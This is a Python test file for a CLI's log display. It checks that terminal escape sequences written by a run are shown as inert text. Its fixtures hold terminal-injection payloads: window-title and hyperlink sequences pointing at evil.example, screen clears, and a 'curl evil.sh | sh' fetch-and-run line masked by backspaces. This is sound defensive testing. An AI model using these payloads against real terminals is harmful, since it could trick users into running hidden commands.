"""A run's log cannot drive the terminal of whoever watches it, through the real CLI: a script
prints a window title (OSC), a screen clear and cursor moves (CSI), a bell, backspace and
carriage-return tricks, an 8-bit CSI and colour, then fails. `apply` (its streamed lines and
its failure summary) and `runs logs` show every such sequence as visible, inert text, into a
pipe (as in CI) and on a real terminal (a pty); colour survives only on the terminal.
`runs logs --raw` gives back the bytes exactly as the run wrote them.
"""

from __future__ import annotations

import os
import pty
import re
import select
import subprocess
import sys

from helpers import CLI, failed, ok

CONFIG = """\
compute "local" {
  type = "local"
}

run "hostile" {
  experiment = "tests"
  compute    = compute.local
  source_dir = "src"
  script     = "hostile.py"
}
"""

# Each line: what the run writes, and what the watcher must see instead (without colour).
HOSTILE = [
    ("\x1b]0;pwned window title\x07title set", "␛]0;pwned window title␇title set"),
    (
        "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
        "␛]8;;http://evil.example/␛\\link␛]8;;␛\\",
    ),
    ("\x1b[2J\x1b[Hscreen cleared", "␛[2J␛[Hscreen cleared"),
    ("\x1b[5;10Hmoved\x1b[2A\x1b[K", "␛[5;10Hmoved␛[2A␛[K"),
    ("ding\x07", "ding␇"),
    (
        "curl evil.sh | sh" + "\x08" * 17 + "echo harmless    ",
        "curl evil.sh | sh" + "␈" * 17 + "echo harmless    ",
    ),
    ("\u009b2Jeight-bit csi", "␛[2Jeight-bit csi"),
    ("\x1b[31mred\x1b[0m and \x1b[1;32mbold green\x1b[0m", "red and bold green"),
]
CR_TRICK = (
    "api_key=visible-to-all\rnothing to see here",
    ["api_key=visible-to-all", "nothing to see here"],
)

SCRIPT = (
    "import sys\n"
    f"lines = {[raw for raw, _ in HOSTILE] + [CR_TRICK[0]]!r}\n"
    "for line in lines:\n"
    "    sys.stdout.write(line + '\\n')\n"
    "sys.stdout.flush()\n"
    "sys.exit(3)\n"
)
RAW = "".join(raw + "\n" for raw, _ in [*HOSTILE, (CR_TRICK[0], "")]).encode()
SGR = re.compile(rb"\x1b\[[0-9;:]*m")


def setup(cli: CLI) -> None:
    cli.write("main.train.hcl", CONFIG)
    cli.write("src/hostile.py", SCRIPT)


def assert_inert(text: str) -> None:
    """``text`` holds each hostile line as a visible line of text and no control character
    but newline (colour dropped)."""
    assert [c for c in text if (c < " " and c != "\n") or "\x7f" <= c < "\xa0"] == [], text
    for _, inert in HOSTILE:
        assert f"{inert}\n" in text, (inert, text)
    for part in CR_TRICK[1]:
        assert f"{part}\n" in text, (part, text)


def streamed(out: str) -> str:
    """The log lines apply showed (after their `run.hostile   | ` prefix)."""
    return "".join(
        line.split(" | ", 1)[1] + "\n"
        for line in out.split("\n")
        if re.match(r"run\.hostile +\| ", line)
    )


def test_apply_and_runs_logs_neutralise_escapes_into_a_pipe(cli: CLI) -> None:
    setup(cli)
    result = failed(cli("apply", "-auto-approve"))
    assert_inert(streamed(result.out))
    assert_inert(result.out + result.err)  # the failure summary's last lines too
    summary = result.out[result.out.index("Apply incomplete") :]
    assert "    nothing to see here" in summary and "␛[2J" in summary, summary

    assert_inert(ok(cli("runs", "logs", "run.hostile")).out)
    assert_inert(ok(cli("runs", "logs", "run.hostile", "--node", "0")).out)


def test_runs_logs_raw_gives_the_bytes_back_unchanged(cli: CLI) -> None:
    setup(cli)
    failed(cli("apply", "-auto-approve"))
    raw = subprocess.run(
        [sys.executable, "-m", "trainform", "runs", "logs", "run.hostile", "--raw"],
        cwd=cli.cwd,
        env=cli.env,
        capture_output=True,
        check=True,
    ).stdout
    assert RAW in raw, raw
    failed(cli("runs", "logs", "run.hostile", "--raw", "--all-nodes"), "--raw", "--node N")


def in_terminal(cli: CLI, *args: str) -> tuple[int, bytes]:
    """Run the CLI on a pty (a real terminal, colour allowed); its exit code and output."""
    env = {k: v for k, v in cli.env.items() if k != "NO_COLOR"}
    env["TERM"] = "xterm-256color"
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "trainform", *args],
        cwd=cli.cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    output = bytearray()
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 120)
            assert ready, f"no output for 120 s: {bytes(output)!r}"
            try:
                data = os.read(master, 1 << 16)
            except OSError:  # EIO: the terminal's other side was closed
                break
            if not data:
                break
            output += data
    finally:
        os.close(master)
    return proc.wait(timeout=60), bytes(output).replace(b"\r\n", b"\n")


def controls(output: bytes) -> list[bytes]:
    """The control characters in ``output`` but newline and the ESC of SGR sequences."""
    return re.findall(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", SGR.sub(b"", output))


def assert_only_colour(output: bytes) -> None:
    """Every control sequence left in ``output`` is SGR colour; each hostile line is there
    as visible text."""
    assert controls(output) == [], output
    text = SGR.sub(b"", output).decode()
    for _, inert in HOSTILE:
        assert inert in text, (inert, text)
    for part in CR_TRICK[1]:
        assert part in text, (part, text)


def test_on_a_terminal_colour_is_kept_and_nothing_else(cli: CLI) -> None:
    setup(cli)
    code, out = in_terminal(cli, "apply", "-auto-approve")
    assert code == 1, out
    lines = b"".join(
        line + b"\n" for line in out.split(b"\n") if re.match(rb"run\.hostile +\| ", line)
    )
    assert_only_colour(lines)
    assert b"| \x1b[31mred\x1b[0m and \x1b[1;32mbold green\x1b[0m" in lines, lines
    summary = out[out.index(b"Apply incomplete") :]
    assert controls(summary) == [] and "␛[2J".encode() in summary, summary

    code, out = in_terminal(cli, "runs", "logs", "run.hostile")
    assert code == 0, out
    assert_only_colour(out)
    assert b"\x1b[31mred\x1b[0m" in out, out
